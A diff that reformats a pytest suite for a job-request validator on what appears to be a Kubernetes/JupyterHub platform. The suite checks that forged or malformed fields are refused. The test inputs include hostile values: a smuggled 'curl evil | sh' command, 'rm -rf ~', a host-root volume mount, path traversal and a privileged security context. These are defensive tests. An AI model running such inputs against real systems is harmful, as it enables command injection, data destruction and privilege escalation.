@@ -20,50 +20,70 @@ def test_a_minimal_request_gets_the_defaults():
     request = parse(JobRequest, body())
     assert request.command == ["python", "train.py"]
     assert (request.kind, request.completions, request.offloadable, request.env, request.files) == (
-        "batch", 1, False, {}, {})
+        "batch",
+        1,
+        False,
+        {},
+        {},
+    )
     assert request.accelerator is request.project is request.priority is request.volumes is None
 
 
-@pytest.mark.parametrize("fields, message", [
-    ({"user": "bob"}, "unknown field 'user'"),
-    ({"owner": "bob"}, "unknown field 'owner'"),
-    ({"namespace": "kube-system"}, "unknown field 'namespace'"),
-    ({"queue": "project-other"}, "unknown field 'queue'"),
-    ({"labels": {"aiinfn.infn.it/owner": "bob"}}, "unknown field 'labels'"),
-    ({"annotations": {"x": "y"}}, "unknown field 'annotations'"),
-    ({"securityContext": {"privileged": True}}, "unknown field 'securityContext'"),
-    ({"privileged": True}, "unknown field 'privileged'"),
-    ({"serviceAccountName": "hub"}, "unknown field 'serviceAccountName'"),
-    ({"image": "docker.io/library/ubuntu:22.04"}, "unknown field 'image'"),
-    ({"volumes": [{"name": "root", "hostPath": {"path": "/"}}]}, "volumes.0: Input should be"),
-    ({"volumes": ["home", "home"]}, "volumes are listed more than once"),
-    ({"volumes": ["envs"]}, "volumes.0: Input should be 'home', 'projects', 'scratch' or 'juicefs'"),
-    ({"env": {"AWS_SECRET": {"valueFrom": {"secretKeyRef": {"name": "juicefs", "key": "k"}}}}},
-     "env.AWS_SECRET: Input should be a valid string"),
-    ({"env": {"JUPYTERHUB_API_TOKEN": "x"}}, "reserved by the platform: JUPYTERHUB_API_TOKEN"),
-    ({"env": {"bad name": "x"}}, "env.<key>: String should match pattern"),
-    ({"command": "python train.py; curl evil | sh"}, "command: Input should be a valid array"),
-    ({"command": []}, "command: List should have at least 1 item"),
-    ({"command": ["x"] * 65}, "command: List should have at most 64 items"),
-    ({"command": ["x" * 4097]}, "command.0: String should have at most 4096 characters"),
-    ({"command": ["a\x00b"]}, "must not contain NUL"),
-    ({"command": None}, "give either a command"),
-    ({"script": "#!/bin/sh\necho hi\n"}, "give either a command"),
-    ({"name": "Train!"}, "name: String should match pattern"),
-    ({"count": "1"}, "count: Input should be a valid integer"),
-    ({"count": True}, "count: Input should be a valid integer"),
-    ({"offloadable": "yes"}, "offloadable: Input should be a valid boolean"),
-    ({"completions": 0}, "completions: Input should be greater than or equal to 1"),
-    ({"completions": 2, "parallelism": 3}, "parallelism must not exceed completions"),
-    ({"deadline_seconds": 10}, "deadline_seconds: Input should be greater than or equal to 60"),
-    ({"cpu": "lots"}, "cpu: String should match pattern"),
-    ({"working_dir": "/home/../etc"}, "working_dir must not contain '..'"),
-    ({"working_dir": "relative"}, "working_dir: String should match pattern"),
-    ({"files": {"../escape": "x"}}, "files.<key>: String should match pattern"),
-    ({"files": {f"f{i}": "x" for i in range(17)}}, "files: Dictionary should have at most 16 items"),
-    ({"files": {"big": "x" * (256 * 1024)}}, "exceed 256 KiB"),
-    ({"idempotency_key": "has space"}, "idempotency_key: String should match pattern"),
-])
+@pytest.mark.parametrize(
+    "fields, message",
+    [
+        ({"user": "bob"}, "unknown field 'user'"),
+        ({"owner": "bob"}, "unknown field 'owner'"),
+        ({"namespace": "kube-system"}, "unknown field 'namespace'"),
+        ({"queue": "project-other"}, "unknown field 'queue'"),
+        ({"labels": {"aiinfn.infn.it/owner": "bob"}}, "unknown field 'labels'"),
+        ({"annotations": {"x": "y"}}, "unknown field 'annotations'"),
+        ({"securityContext": {"privileged": True}}, "unknown field 'securityContext'"),
+        ({"privileged": True}, "unknown field 'privileged'"),
+        ({"serviceAccountName": "hub"}, "unknown field 'serviceAccountName'"),
+        ({"image": "docker.io/library/ubuntu:22.04"}, "unknown field 'image'"),
+        ({"volumes": [{"name": "root", "hostPath": {"path": "/"}}]}, "volumes.0: Input should be"),
+        ({"volumes": ["home", "home"]}, "volumes are listed more than once"),
+        (
+            {"volumes": ["envs"]},
+            "volumes.0: Input should be 'home', 'projects', 'scratch' or 'juicefs'",
+        ),
+        (
+            {
+                "env": {
+                    "AWS_SECRET": {"valueFrom": {"secretKeyRef": {"name": "juicefs", "key": "k"}}}
+                }
+            },
+            "env.AWS_SECRET: Input should be a valid string",
+        ),
+        ({"env": {"JUPYTERHUB_API_TOKEN": "x"}}, "reserved by the platform: JUPYTERHUB_API_TOKEN"),
+        ({"env": {"bad name": "x"}}, "env.<key>: String should match pattern"),
+        ({"command": "python train.py; curl evil | sh"}, "command: Input should be a valid array"),
+        ({"command": []}, "command: List should have at least 1 item"),
+        ({"command": ["x"] * 65}, "command: List should have at most 64 items"),
+        ({"command": ["x" * 4097]}, "command.0: String should have at most 4096 characters"),
+        ({"command": ["a\x00b"]}, "must not contain NUL"),
+        ({"command": None}, "give either a command"),
+        ({"script": "#!/bin/sh\necho hi\n"}, "give either a command"),
+        ({"name": "Train!"}, "name: String should match pattern"),
+        ({"count": "1"}, "count: Input should be a valid integer"),
+        ({"count": True}, "count: Input should be a valid integer"),
+        ({"offloadable": "yes"}, "offloadable: Input should be a valid boolean"),
+        ({"completions": 0}, "completions: Input should be greater than or equal to 1"),
+        ({"completions": 2, "parallelism": 3}, "parallelism must not exceed completions"),
+        ({"deadline_seconds": 10}, "deadline_seconds: Input should be greater than or equal to 60"),
+        ({"cpu": "lots"}, "cpu: String should match pattern"),
+        ({"working_dir": "/home/../etc"}, "working_dir must not contain '..'"),
+        ({"working_dir": "relative"}, "working_dir: String should match pattern"),
+        ({"files": {"../escape": "x"}}, "files.<key>: String should match pattern"),
+        (
+            {"files": {f"f{i}": "x" for i in range(17)}},
+            "files: Dictionary should have at most 16 items",
+        ),
+        ({"files": {"big": "x" * (256 * 1024)}}, "exceed 256 KiB"),
+        ({"idempotency_key": "has space"}, "idempotency_key: String should match pattern"),
+    ],
+)
 def test_forged_or_malformed_fields_are_refused_by_name(fields, message):
     with pytest.raises(UserError) as error:
         parse(JobRequest, body(**fields))
@@ -74,24 +94,32 @@ def test_forged_or_malformed_fields_are_refused_by_name(fields, message):
 def test_scripts_need_an_interpreter_line():
     with pytest.raises(UserError, match="must start with a #! line"):
         parse(JobRequest, json.dumps({"name": "s", "script": "rm -rf ~"}).encode())
-    request = parse(JobRequest, json.dumps({"name": "s", "script": "#!/bin/sh\necho hi\n"}).encode())
+    request = parse(
+        JobRequest, json.dumps({"name": "s", "script": "#!/bin/sh\necho hi\n"}).encode()
+    )
     assert request.sandbox() == {requests.SCRIPT_KEY: "#!/bin/sh\necho hi\n"}
 
 
 def test_messages_never_echo_what_was_sent():
     secret = "s3cr3t-token-value"
     with pytest.raises(UserError) as error:
-        parse(JobRequest, body(count=secret, env={"X": {"value": secret}}, command=secret, extra=secret))
+        parse(
+            JobRequest,
+            body(count=secret, env={"X": {"value": secret}}, command=secret, extra=secret),
+        )
     assert secret not in error.value.message and secret not in error.value.log_detail
     assert "unknown field 'extra'" in error.value.message
 
 
-@pytest.mark.parametrize("raw, status, message", [
-    (b"x" * (requests.MAX_BODY_BYTES + 1), 413, "larger than 512 KiB"),
-    (b"{not json", 400, "invalid request"),
-    (b"[1, 2]", 400, "Input should be an object"),
-    (b"\xff\xfe", 400, "invalid request"),
-])
+@pytest.mark.parametrize(
+    "raw, status, message",
+    [
+        (b"x" * (requests.MAX_BODY_BYTES + 1), 413, "larger than 512 KiB"),
+        (b"{not json", 400, "invalid request"),
+        (b"[1, 2]", 400, "Input should be an object"),
+        (b"\xff\xfe", 400, "invalid request"),
+    ],
+)
 def test_bodies_that_are_not_json_objects(raw, status, message):
     with pytest.raises(UserError) as error:
         parse(JobRequest, raw)
